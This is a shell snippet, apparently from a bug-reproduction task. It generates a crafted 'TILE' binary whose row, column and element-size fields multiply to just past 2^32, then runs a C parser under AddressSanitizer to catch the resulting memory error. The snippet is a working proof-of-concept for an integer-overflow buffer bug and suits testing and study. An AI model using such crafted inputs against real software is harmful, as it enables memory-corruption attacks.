# Rows, columns and bytes of a tile whose product is 16 more than 2^32: 16 bytes are reserved and a row has far more.
cat > /tmp/make.py <<'END'
import struct, zlib
goal = next((rows, columns, size, rest) for size in (4, 2, 1) for rows in range(2, 4097)
            for rest in range(16, 4096, 4) if (2**32 + rest) % (rows * size) == 0
            for columns in [(2**32 + rest) // (rows * size)] if columns < 2**32)
rows, columns, size, rest = goal
body = struct.pack("<III", rows, columns, size) + b"\x01" * (rest + 64)
open("/task/input.bin", "wb").write(b"TILE" + struct.pack("<I", zlib.adler32(body)) + body)
END
python3 /tmp/make.py
gcc -O1 -g -w -fsanitize=address -o /tmp/tiles tiles.c && /tmp/tiles < input.bin 2>&1 | grep -m1 ERROR
